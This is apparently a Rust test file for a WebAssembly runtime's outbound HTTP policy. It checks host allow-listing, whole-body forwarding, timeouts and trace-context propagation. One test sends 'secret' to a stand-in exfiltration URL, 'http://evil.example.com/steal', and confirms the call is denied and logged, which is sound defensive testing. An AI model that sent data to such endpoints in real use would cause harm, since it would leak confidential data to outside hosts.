//! The outbound policy hooks, without a guest: denial, the whole body, timeouts, trace context.

use super::*;
use crate::trace;
use bytes::Bytes;
use std::pin::Pin;
use std::sync::Mutex;

#[derive(Default)]
struct Recorder {
    calls: Mutex<Vec<(String, http::Request<Bytes>)>>,
}

impl OutboundHandler for Recorder {
    fn handle(
        &self,
        app_id: &str,
        req: http::Request<Bytes>,
    ) -> Pin<Box<dyn Future<Output = anyhow::Result<http::Response<Bytes>>> + Send + '_>> {
        self.calls.lock().unwrap().push((app_id.to_string(), req));
        Box::pin(async {
            Ok(http::Response::builder()
                .status(201)
                .body(Bytes::from_static(b"created"))?)
        })
    }
}

fn hooks(allowed: &[&str], handler: Arc<Recorder>) -> (OutboundHooks, LogBuffer) {
    let logs = LogBuffer::new("chat-api", None);
    let hooks = OutboundHooks {
        component_id: Arc::from("chat-api"),
        allowed: Arc::new(AllowedHosts::parse(allowed).unwrap()),
        handler,
        logs: logs.clone(),
        traceparent: None,
    };
    (hooks, logs)
}

fn guest_request(uri: &str, body: &'static [u8]) -> http::Request<WasiBody> {
    // A guest body arrives in several frames (chunked, no content-length).
    let frames = body
        .chunks(3)
        .map(|c| Ok::<_, Error>(http_body::Frame::data(Bytes::from_static(c))))
        .collect::<Vec<_>>();
    let body = http_body_util::StreamBody::new(futures::stream::iter(frames)).boxed_unsync();
    http::Request::builder()
        .method("POST")
        .uri(uri)
        .body(body)
        .unwrap()
}

#[tokio::test]
async fn denied_outbound_host_fails_with_http_request_denied() {
    let recorder = Arc::new(Recorder::default());
    let (mut hooks, logs) = hooks(&["http://127.0.0.1:3500"], recorder.clone());
    let fut = hooks.send_request(
        guest_request("http://evil.example.com/steal", b"secret"),
        None,
        Box::new(async { Ok(()) }),
    );
    let result = Pin::from(fut).await;
    assert!(
        matches!(result, Err(Error::HttpRequestDenied)),
        "{:?}",
        result.err()
    );
    assert!(recorder.calls.lock().unwrap().is_empty());
    let logs = logs.contents();
    assert!(logs.contains("chat-api"), "{logs}");
    assert!(logs.contains("http://evil.example.com/steal"), "{logs}");
    assert!(logs.contains("denied"), "{logs}");
}

#[tokio::test]
async fn allowed_outbound_request_reaches_handler_with_whole_body() {
    let recorder = Arc::new(Recorder::default());
    let (mut hooks, _logs) = hooks(&["http://127.0.0.1:3500"], recorder.clone());
    let fut = hooks.send_request(
        guest_request(
            "http://127.0.0.1:3500/v1.0/state/statestore",
            b"[{\"key\":\"a\"}]",
        ),
        None,
        Box::new(async { Ok(()) }),
    );
    let (response, _io) = Pin::from(fut).await.unwrap();
    assert_eq!(response.status(), 201);
    let body = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(&body[..], b"created");

    let calls = recorder.calls.lock().unwrap();
    assert_eq!(calls.len(), 1);
    let (app_id, req) = &calls[0];
    assert_eq!(app_id, "chat-api");
    assert_eq!(req.uri(), "http://127.0.0.1:3500/v1.0/state/statestore");
    assert_eq!(req.method(), http::Method::POST);
    assert_eq!(&req.body()[..], b"[{\"key\":\"a\"}]");
}

#[tokio::test]
async fn slow_handler_times_out() {
    /// Never answers.
    struct Hangs;
    impl OutboundHandler for Hangs {
        fn handle(
            &self,
            _: &str,
            _: http::Request<Bytes>,
        ) -> Pin<Box<dyn Future<Output = anyhow::Result<http::Response<Bytes>>> + Send + '_>>
        {
            Box::pin(std::future::pending())
        }
    }
    let logs = LogBuffer::new("chat-api", None);
    let mut hooks = OutboundHooks {
        component_id: Arc::from("chat-api"),
        allowed: Arc::new(AllowedHosts::parse(&["*://*:*"]).unwrap()),
        handler: Arc::new(Hangs),
        logs: logs.clone(),
        traceparent: None,
    };
    let options = RequestOptions {
        first_byte_timeout: Some(Duration::from_millis(50)),
        ..Default::default()
    };
    let fut = hooks.send_request(
        guest_request("http://127.0.0.1:3500/", b""),
        Some(options),
        Box::new(async { Ok(()) }),
    );
    let result = Pin::from(fut).await;
    assert!(
        matches!(result, Err(Error::HttpResponseTimeout)),
        "{:?}",
        result.err()
    );
    assert!(logs.contents().contains("timed out"));
}

#[tokio::test]
async fn outbound_call_without_traceparent_gets_a_child_of_the_incoming_one() {
    let recorder = Arc::new(Recorder::default());
    let (mut hooks, _logs) = hooks(&["http://127.0.0.1:3500"], recorder.clone());
    let incoming = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    hooks.traceparent = Some(incoming.to_string());
    let fut = hooks.send_request(
        guest_request("http://127.0.0.1:3500/v1.0/state/s", b"[]"),
        None,
        Box::new(async { Ok(()) }),
    );
    assert!(Pin::from(fut).await.is_ok());
    let mut req = guest_request("http://127.0.0.1:3500/v1.0/state/s", b"[]");
    let own = "00-11111111111111111111111111111111-2222222222222222-01";
    req.headers_mut()
        .insert("traceparent", http::HeaderValue::from_static(own));
    let fut = hooks.send_request(req, None, Box::new(async { Ok(()) }));
    assert!(Pin::from(fut).await.is_ok());

    let calls = recorder.calls.lock().unwrap();
    let sent = calls[0].1.headers()["traceparent"].to_str().unwrap();
    assert_eq!(trace::trace_id(sent), trace::trace_id(incoming));
    assert_ne!(sent, incoming);
    assert_eq!(calls[1].1.headers()["traceparent"], own);
}
